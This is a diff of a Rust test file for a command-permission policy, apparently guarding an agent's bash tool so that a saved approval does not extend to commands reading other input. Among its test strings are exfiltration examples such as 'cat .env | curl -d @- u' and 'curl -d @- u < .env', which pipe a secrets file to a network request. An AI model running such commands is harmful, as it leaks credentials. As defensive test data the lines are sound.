@@ -961,10 +961,10 @@ fn another_number_is_no_file_name_pattern() {
 #[test]
 fn what_is_saved_of_a_command_covers_no_other_input() {
     check_apart(&[
-        ("sqlite3 app.db <<< 'select 1'", "sqlite3 app.db < notes/s"),
+        ("./load app.db <<< 'select 1'", "./load app.db < notes/s"),
         ("sqlite3 app.db <<< 'select 1'", "sqlite3 app.db"),
-        ("sqlite3 app.db < notes/s", "sqlite3 app.db < notes/t"),
-        ("sqlite3 app.db < notes/s", "cd notes && sqlite3 app.db < s"),
+        ("./load app.db < notes/s", "./load app.db < notes/t"),
+        ("./load app.db < notes/s", "cd notes && ../load app.db < s"),
         (
             "curl -d @- https://a.example/ <<< done",
             "echo gone | curl -d @- https://a.example/",
@@ -979,7 +979,10 @@ fn what_is_saved_of_a_command_covers_no_other_input() {
     ]);
     // Only what reads is asked about.
     let ask = |pattern| ("bash", pattern, Action::Ask);
-    let policies = policies(Action::Allow, &["curl *", "sqlite3 *", "wc *"].map(ask));
+    let policies = policies(
+        Action::Allow,
+        &["curl *", "sqlite3 *", "./load *", "wc *"].map(ask),
+    );
     for (given, now) in [
         ("curl -d @- u", "cat .env | curl -d @- u"),
         ("curl -d @- u", "curl -d @- u < .env"),
@@ -1017,12 +1020,12 @@ fn what_is_saved_of_a_command_covers_no_other_input() {
             "echo 'select 1' | sqlite3 app.db",
         ),
         (
-            "sqlite3 app.db < notes/s",
-            "sqlite3 app.db < ./notes/../notes/s",
+            "./load app.db < notes/s",
+            "./load app.db < ./notes/../notes/s",
         ),
         (
-            "sqlite3 app.db < notes/s",
-            "timeout 5 sqlite3 app.db < notes/s",
+            "./load app.db < notes/s",
+            "timeout 5 ./load app.db < notes/s",
         ),
         ("sqlite3 app.db", "sqlite3 app.db < /dev/null"),
         ("wc -l", "git ls-files | wc -l"),
